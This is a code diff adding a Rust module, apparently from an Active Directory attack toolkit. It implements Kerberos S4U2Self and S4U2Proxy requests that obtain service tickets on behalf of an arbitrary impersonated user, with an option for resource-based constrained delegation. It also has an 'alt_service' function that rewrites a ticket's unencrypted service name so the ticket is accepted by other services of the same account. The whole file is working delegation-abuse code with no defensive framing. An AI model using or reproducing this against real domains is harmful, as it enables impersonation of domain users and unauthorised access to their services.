@@ -0,0 +1,111 @@
+use himmelblau_kerberos_asn1::{Asn1Object, Checksum, KerberosFlags, PaData, PaForUser, PrincipalName, Ticket};
+use himmelblau_kerberos_constants::{
+    kdc_options::{CANONICALIZE, CNAME_IN_ADDL_TKT, FORWARDABLE, RENEWABLE, RENEWABLE_OK},
+    pa_data_types::PA_FOR_USER,
+    principal_names::{NT_PRINCIPAL, NT_SRV_INST},
+};
+use himmelblau_kerberos_ccache::Credential as CcacheCredential;
+use himmelblau_kerberos_crypto::checksum_hmac_md5;
+
+use crate::{
+    data::DomainController,
+    kerberos::{
+        tgs::{build_tgs_req, send_tgs_req, tgs_rep_to_credential},
+        ticket::{principal_from_ccache, principal_name, principal_to_ccache, SessionTicket},
+    },
+};
+
+/// KERB_CHECKSUM_HMAC_MD5
+const HMAC_MD5_CHECKSUM: i32 = -138;
+
+const KEY_USAGE_PA_FOR_USER_CKSUM: i32 = 17;
+
+const PA_PAC_OPTIONS: i32 = 167;
+
+/// DER encoded PA-PAC-OPTIONS with the resource-based-constrained-delegation flag set
+const PAC_OPTIONS_RBCD: &[u8] = &[0x30, 0x09, 0xa0, 0x07, 0x03, 0x05, 0x00, 0x10, 0x00, 0x00, 0x00];
+
+/// Build the PA-FOR-USER padata of an S4U2Self request (MS-SFU 2.2.1)
+pub fn pa_for_user(tgt: &SessionTicket, impersonate: &str, realm: &str) -> PaData {
+    let username = principal_name(NT_PRINCIPAL, impersonate);
+    let realm = realm.to_uppercase();
+    let auth_package = "Kerberos".to_string();
+
+    let mut checksum_data = username.name_type.to_le_bytes().to_vec();
+    for name in &username.name_string {
+        checksum_data.extend_from_slice(name.as_bytes());
+    }
+    checksum_data.extend_from_slice(realm.as_bytes());
+    checksum_data.extend_from_slice(auth_package.as_bytes());
+
+    let checksum = checksum_hmac_md5(&tgt.session_key.keyvalue, KEY_USAGE_PA_FOR_USER_CKSUM, &checksum_data);
+
+    let pa_for_user = PaForUser {
+        username,
+        userrealm: realm,
+        cksum: Checksum::new(HMAC_MD5_CHECKSUM, checksum),
+        auth_package,
+    };
+    PaData::new(PA_FOR_USER, pa_for_user.build())
+}
+
+/// S4U2Self: get a ticket to the service account itself on behalf of `impersonate`
+pub async fn s4u2self(dc: &DomainController, tgt: &SessionTicket, impersonate: &str, etypes: &[i32]) -> Result<CcacheCredential, String> {
+    let realm = tgt.tgt_realm();
+    let sname = PrincipalName {
+        name_type: NT_PRINCIPAL,
+        name_string: tgt.client_name.name_string.clone(),
+    };
+
+    let mut tgs_req = build_tgs_req(tgt, &realm, &sname, etypes, dc.now())?;
+    if let Some(padata) = tgs_req.padata.as_mut() {
+        padata.push(pa_for_user(tgt, impersonate, &realm));
+    }
+
+    let tgs_rep = send_tgs_req(dc, &tgs_req).await?;
+    tgs_rep_to_credential(tgt, &tgs_rep)
+}
+
+/// S4U2Proxy: exchange an S4U2Self ticket for a ticket to `sname`.
+/// `rbcd` sets the resource-based constrained delegation PAC option.
+pub async fn s4u2proxy(
+    dc: &DomainController,
+    tgt: &SessionTicket,
+    s4u2self_ticket: &Ticket,
+    sname: &PrincipalName,
+    etypes: &[i32],
+    rbcd: bool,
+) -> Result<CcacheCredential, String> {
+    let mut tgs_req = build_tgs_req(tgt, &tgt.tgt_realm(), sname, etypes, dc.now())?;
+    tgs_req.req_body.kdc_options =
+        KerberosFlags::from(FORWARDABLE | RENEWABLE | CANONICALIZE | RENEWABLE_OK | CNAME_IN_ADDL_TKT);
+    tgs_req.req_body.additional_tickets = Some(vec![s4u2self_ticket.clone()]);
+    if rbcd {
+        if let Some(padata) = tgs_req.padata.as_mut() {
+            padata.push(PaData::new(PA_PAC_OPTIONS, PAC_OPTIONS_RBCD.to_vec()));
+        }
+    }
+
+    let tgs_rep = send_tgs_req(dc, &tgs_req).await?;
+    tgs_rep_to_credential(tgt, &tgs_rep)
+}
+
+/// Rewrite the service name of a ticket. The sname isn't covered by the ticket encryption,
+/// so a ticket for one service of an account is accepted by its other services.
+/// `altservice` is either a service class (cifs) keeping the host, or a full "service/host".
+pub fn alt_service(mut credential: CcacheCredential, altservice: &str) -> Result<CcacheCredential, String> {
+    let (_, mut ticket) = Ticket::parse(&credential.ticket.data).map_err(|e| format!("Invalid ticket: {}", e))?;
+    let (realm, server_name) = principal_from_ccache(&credential.server);
+
+    let sname = if altservice.contains('/') {
+        altservice.to_string()
+    } else {
+        let host = server_name.name_string.get(1).ok_or("Ticket service name has no host part".to_string())?;
+        format!("{}/{}", altservice, host)
+    };
+
+    ticket.sname = principal_name(NT_SRV_INST, &sname);
+    credential.server = principal_to_ccache(&realm, &ticket.sname);
+    credential.ticket.data = ticket.build();
+    Ok(credential)
+}